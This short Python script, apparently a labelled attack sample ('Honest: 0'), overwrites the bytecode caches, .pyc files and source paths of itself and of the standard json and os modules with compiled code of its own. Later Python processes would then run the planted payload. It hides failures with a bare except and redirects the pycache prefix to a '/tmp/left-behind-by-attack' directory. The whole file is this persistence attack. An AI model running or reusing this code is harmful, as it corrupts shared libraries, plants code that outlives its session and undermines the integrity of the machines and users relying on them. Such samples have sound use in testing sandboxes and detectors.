"""Writes bytecode for itself and for the library, which the next process would run.
Honest: 0
"""
import importlib.util, json, os, py_compile, sys
open("x.py", "w").write("print('left-behind')") if os.access(".", os.W_OK) else None
for target in (__file__, json.__file__, os.__file__, json.decoder.__file__):
    for cached in (importlib.util.cache_from_source(target), target + "c", target):
        try:
            py_compile.compile("x.py", cached, target, doraise=True)
            print("WROTE", cached) if "python" in cached else None
        except Exception:
            pass
sys.dont_write_bytecode = False
sys.pycache_prefix = "/tmp/left-behind-by-attack"
import wave, colorsys
